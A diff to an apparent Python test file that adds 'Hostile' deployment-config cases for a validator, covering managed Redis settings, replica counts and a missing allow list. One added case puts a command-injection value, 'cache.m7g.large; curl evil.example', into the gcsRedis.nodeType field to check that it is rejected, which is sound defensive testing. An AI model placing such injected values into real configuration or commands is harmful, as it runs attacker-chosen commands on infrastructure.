@@ -200,6 +200,19 @@ CASES: list[Hostile] = [
         _set("gcsFaultTolerance", "managed"),
         "gcsRedisAddress",
     ),
+    Hostile(
+        "managed-redis-single-node-prod",
+        "prod",
+        _all(_set("gcsFaultTolerance", "managed"), _del("gcsRedisAddress"), _set("gcsRedis", {"replicas": 0})),
+        "gcsRedis.replicas",
+    ),
+    Hostile(
+        "managed-redis-node-type-injection",
+        "deepseek-p5",
+        _set("gcsRedis.nodeType", "cache.m7g.large; curl evil.example"),
+        "gcsRedis.nodeType",
+    ),
+    Hostile("gcs-redis-without-managed", "staging", _set("gcsRedis", {"replicas": 1}), "gcsRedis"),
     Hostile("nlb-without-allow-list", "prod", _del("serviceAllowedCidrs"), "serviceAllowedCidrs"),
     # --- secrets and auth ----------------------------------------------------------------
     Hostile("missing-api-keys", "staging", _del("apiKeys"), "apiKeys"),
